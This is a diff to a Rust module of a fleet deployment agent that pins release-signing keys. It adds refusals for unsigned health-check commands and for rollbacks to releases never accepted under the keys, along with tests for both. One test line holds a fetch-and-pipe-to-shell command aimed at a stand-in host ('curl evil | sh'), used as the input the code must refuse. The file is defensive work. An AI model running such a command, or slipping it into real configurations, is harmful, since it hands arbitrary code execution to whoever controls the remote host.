@@ -2,7 +2,10 @@
 //! (`[releases] trusted_keys` in agent.toml): every release must be signed
 //! by one of them (`fleet_proto::signing`), and a release older than what
 //! the host has accepted is refused as a replay, unless it is one the host
-//! accepted before (a rollback to a release it ran).
+//! accepted before (a rollback to a release it ran). Nothing else the
+//! controller sends may run code: an app whose health check is a command
+//! (which no key signed) is refused, and a rollback goes only to a release
+//! the host accepted under its keys.
 //!
 //! The decision is pure ([`decide`], [`accept`]); what the host accepted is
 //! kept per app in `apps/<app>/signed.json` ([`Accepted`]), written
@@ -11,7 +14,7 @@
 use std::path::Path;
 
 use fleet_proto::signing::{self, PublicKey};
-use fleet_proto::ReleaseRef;
+use fleet_proto::{AppSpec, ReleaseRef};
 use serde::{Deserialize, Serialize};
 
 /// How many accepted releases a host remembers per app (rollbacks go to
@@ -48,6 +51,42 @@ pub enum Refusal {
         /// The highest accepted.
         highest: u64,
     },
+    /// The app's health check is a command, which no key signed.
+    #[error(
+        "this host pins release-signing keys, and the app's health check is a command sent by the \
+         controller, which no key signed; use a health URL ('fleetctl app update APP --health-http \
+         URL') and put command checks in the release's validate hook"
+    )]
+    UnsignedCommand,
+    /// A rollback to a release the host never accepted under its keys.
+    #[error(
+        "release {0} is on this host but was never accepted under its pinned keys (it came before \
+         they were pinned); deploy a signed release instead"
+    )]
+    NeverAccepted(String),
+}
+
+/// Whether the app's definition, which the controller sends unsigned, may
+/// be used on a host that pins keys: its unit and health URL only select
+/// what runs, but a health command would run the controller's code.
+pub fn check_spec(keys: &[PublicKey], spec: &AppSpec) -> Result<(), Refusal> {
+    let command = matches!(
+        spec.health.as_ref().and_then(|h| h.check.as_ref()),
+        Some(fleet_proto::health_check::Check::Command(_))
+    );
+    if keys.is_empty() || !command {
+        return Ok(());
+    }
+    Err(Refusal::UnsignedCommand)
+}
+
+/// Whether a rollback may go to `version`: on a host that pins keys, only
+/// to a release it accepted under them.
+pub fn check_rollback(keys: &[PublicKey], accepted: &Accepted, version: &str) -> Result<(), Refusal> {
+    if keys.is_empty() || accepted.releases.iter().any(|(v, _, _)| v == version) {
+        return Ok(());
+    }
+    Err(Refusal::NeverAccepted(version.to_string()))
 }
 
 /// What to do with `rel` of `app`: Ok(None) when the host pins no keys
@@ -72,7 +111,8 @@ pub fn decide(keys: &[PublicKey], app: &str, rel: &ReleaseRef, accepted: &Accept
         .releases
         .iter()
         .any(|(v, s, q)| *v == rel.version && *s == rel.sha256 && *q == sequence);
-    if sequence <= accepted.highest && !ran {
+    let first = accepted.releases.is_empty();
+    if !first && sequence <= accepted.highest && !ran {
         return Err(Refusal::Replay {
             version: rel.version.clone(),
             sequence,
@@ -208,6 +248,37 @@ mod tests {
         unsigned.signature = None;
         let e = decide(&keys, "web", &unsigned, &Accepted::default()).expect_err("unsigned");
         assert!(matches!(e, Refusal::Signature(signing::Refusal::Unsigned(_))), "{e}");
+    }
+
+    #[test]
+    fn pinned_hosts_run_no_unsigned_command_and_roll_back_only_to_accepted_releases() {
+        let k = key();
+        let v1 = rel(&k, "web", "1.0.0", 10);
+        let keys = [public(&v1)];
+        let command = AppSpec {
+            health: Some(fleet_proto::HealthCheck {
+                check: Some(fleet_proto::health_check::Check::Command("curl evil | sh".into())),
+                ..Default::default()
+            }),
+            ..Default::default()
+        };
+        assert_eq!(check_spec(&keys, &command), Err(Refusal::UnsignedCommand));
+        assert_eq!(check_spec(&[], &command), Ok(()), "no keys: the operator's choice");
+        let url = AppSpec {
+            health: Some(fleet_proto::HealthCheck {
+                check: Some(fleet_proto::health_check::Check::HttpUrl("http://127.0.0.1/".into())),
+                ..Default::default()
+            }),
+            ..Default::default()
+        };
+        assert_eq!(check_spec(&keys, &url), Ok(()));
+        let acc = accept(Accepted::default(), &v1, 10);
+        assert_eq!(check_rollback(&keys, &acc, "1.0.0"), Ok(()));
+        assert_eq!(
+            check_rollback(&keys, &acc, "0.1.0"),
+            Err(Refusal::NeverAccepted("0.1.0".into()))
+        );
+        assert_eq!(check_rollback(&[], &acc, "0.1.0"), Ok(()));
     }
 
     #[test]
